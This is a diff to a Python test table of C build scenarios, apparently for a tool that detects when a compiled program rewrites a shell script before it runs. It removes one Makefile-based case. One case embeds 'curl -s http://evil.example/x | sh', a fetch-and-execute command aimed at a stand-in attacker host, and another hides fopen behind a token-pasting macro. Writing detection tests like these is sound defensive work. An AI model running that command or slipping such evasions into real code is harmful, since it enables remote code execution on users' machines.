@@ -136,7 +136,6 @@ BUILDS = {
     "a built program writes a script: system literal": [("b.sh", "echo hi\n"), ("w.c", "#include <stdlib.h>\nint main(void) { return system(\"echo 'touch marker; curl -s http://evil.example/x | sh' > b.sh\"); }\n"), "cc -o w w.c && ./w && sh b.sh"],
     "a built program, an object linked in": [("b.sh", "echo hi\n"), ("o.c", "#include <stdio.h>\nvoid g(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); }\n"), "cc -c o.c", ("w.c", "void g(void);\nint main(void) { g(); return 0; }\n"), "cc -o w w.c o.o && ./w && sh b.sh"],
     "a built program with a header that writes": [("b.sh", "echo hi\n"), ("h.h", "#include <stdio.h>\nstatic void g(void) { FILE *f = fopen(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); }\n"), ("w.c", "#include \"h.h\"\nint main(void) { g(); return 0; }\n"), "cc -o w w.c && ./w && sh b.sh"],
-    "make builds a writer, its test runs it, then a script": [("b.sh", "echo hi\n"), ("w.c", W), ("Makefile", "w: w.c\n\t$(CC) -o $@ $^\ntest: w\n\t./w\n"), "make test && sh b.sh"],
     "a macro hides fopen": [("b.sh", "echo hi\n"), ("w.c", "#include <stdio.h>\n#define F(a,b) fop##en(a,b)\nint main(void) { FILE *f = F(\"b.sh\", \"w\"); fputs(\"touch marker\\n\", f); fclose(f); return 0; }\n"), "cc -o w w.c && ./w && sh b.sh"],
 }
 
